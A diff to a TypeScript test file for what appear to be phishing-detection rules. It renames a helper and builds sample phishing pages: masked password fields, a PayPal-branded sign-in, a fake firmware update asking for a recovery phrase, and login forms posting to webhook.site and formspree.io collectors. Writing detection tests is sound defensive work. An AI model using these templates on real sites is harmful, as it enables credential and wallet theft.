@@ -13,7 +13,7 @@ const form = (action: string, fields: string) =>
     : `<form action="${action}" method="post">${fields}</form>`
 const login = (action: string) => form(action, `<input type="password" name="p">`)
 const card = (action: string) => form(action, `<input name="cardnumber"><input name="cvv">`)
-const masked = (action: string) =>
+const maskInput = (action: string) =>
   `<style>.x{-webkit-text-security:disc}</style>${form(action, `<input class="x" name="x">`)}`
 const footer = (name: string) => `<footer>© 2026 ${name}</footer>`
 const whole = `<iframe src="${elsewhere}" style="position:fixed;inset:0;height:100%"></iframe>`
@@ -72,7 +72,7 @@ export const ruleCases: ReadonlyArray<readonly [rule: string, draft: GivenDraft]
   ],
   [
     "asks-under-sign-in",
-    makeSite("masked, asks to sign in", ours, `<h1>${ours}</h1><h2>Sign in to PayPal</h2>${masked("/in")}`),
+    makeSite("masked, asks to sign in", ours, `<h1>${ours}</h1><h2>Sign in to PayPal</h2>${maskInput("/in")}`),
   ],
   ["leads-away-under-title", linkUnderName],
   ["leads-away-without-name", linkUnderName],
@@ -86,11 +86,11 @@ export const ruleCases: ReadonlyArray<readonly [rule: string, draft: GivenDraft]
       `<h1>Critical firmware update 2.4.1</h1><p>Enter your recovery phrase</p><p>to restore access to your device</p><form action="/r"><textarea name="w"></textarea></form>`,
     ),
   ],
-  ["asks-under-heading", makeSite("masked, heading", ours, `<h1>PayPal ferries</h1>${masked(chat)}`)],
-  ["asks-under-owner", makeSite("masked, copyright", ours, `<h1>${ours}</h1>${masked(chat)}${footer("PayPal")}`)],
+  ["asks-under-heading", makeSite("masked, heading", ours, `<h1>PayPal ferries</h1>${maskInput(chat)}`)],
+  ["asks-under-owner", makeSite("masked, copyright", ours, `<h1>${ours}</h1>${maskInput(chat)}${footer("PayPal")}`)],
   [
     "asks-under-near-title",
-    makeSite("masked, title with more words", "PayPal ferries", `${leaves}<h1>${ours}</h1>${masked(chat)}`),
+    makeSite("masked, title with more words", "PayPal ferries", `${leaves}<h1>${ours}</h1>${maskInput(chat)}`),
   ],
   ["secret-to-collector", makeSite("to a collector", ours, `<h1>${ours}</h1>${login("https://webhook.site/1")}`)],
   ["secret-to-form-relay", makeSite("to a relay", ours, `<h1>${ours}</h1>${login("https://formspree.io/f/1")}`)],
